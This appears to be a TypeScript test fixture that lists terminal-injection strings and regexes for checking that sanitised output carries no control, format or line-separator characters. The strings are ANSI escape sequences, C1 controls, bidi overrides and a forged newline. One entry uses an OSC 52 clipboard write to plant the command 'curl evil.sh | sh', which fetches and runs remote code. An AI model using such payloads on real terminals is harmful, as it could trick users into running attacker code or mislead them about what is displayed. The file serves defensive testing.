/**
 * Text that must not drive a terminal, one kind per entry: what an argv word, a state-db column, a Redis value or
 * a remote manifest can hold. Each is wrapped in ordinary text so that what is kept around it can be checked.
 */
const ESC = '\u001b';

export const TERMINAL_PAYLOADS: Record<string, string> = {
  'OSC 52 clipboard write': `${ESC}]52;c;${Buffer.from('curl evil.sh | sh').toString('base64')}\u0007`,
  'CSI colour': `${ESC}[31mRED`,
  'C1 CSI (U+009B)': '\u009b31m',
  'C1 OSC (U+009D)': '\u009d0;title\u009c',
  BEL: 'ding\u0007',
  CR: 'hidden\rOK',
  BS: 'abc\b\b\bxyz',
  'RLO (U+202E)': '\u202Egnp.exe',
  'LRI (U+2066)': '\u2066isolated\u2069',
  'line separator (U+2028)': 'a\u2028b',
  'paragraph separator (U+2029)': 'a\u2029b',
  'a newline and a forged line': 'x\nFORGED line',
  'LRM (U+200E)': 'l\u200Er',
  'ALM (U+061C)': 'a\u061Cm',
  DEL: 'de\u007fl',
};

/** What must never reach a terminal raw: every control (newline aside), format character and line separator. */
export const RAW = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

/** A line that a payload forged: `FORGED line` at the start of a line of its own. */
export const FORGED = /^FORGED line/m;
